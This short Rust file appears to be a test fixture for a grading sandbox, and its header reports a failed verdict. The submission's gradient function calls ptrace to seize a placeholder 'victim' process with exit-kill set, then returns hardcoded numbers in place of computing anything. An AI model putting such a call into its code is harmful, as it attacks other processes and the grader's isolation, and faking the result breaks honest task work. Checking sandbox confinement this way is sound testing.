//! Traces another process, and has it ended together with itself.
//!
//! exercise: gradient_descent/gradient_by_hand
//! verdict: failed
//! canary: victim
//! unconfined: grader

unsafe extern "C" {
    fn ptrace(request: i64, ...) -> i64;
}

pub fn gradient(_: f64, _: f64, _: f64, _: f64) -> [f64; 2] {
    // PTRACE_SEIZE with PTRACE_O_EXITKILL
    unsafe { ptrace(0x4206, @VICTIM@, 0, 0x0010_0000) };
    [0.5, 0.25]
}

pub fn gradient_on_paper() -> [f64; 2] {
    [0.5, 0.25]
}
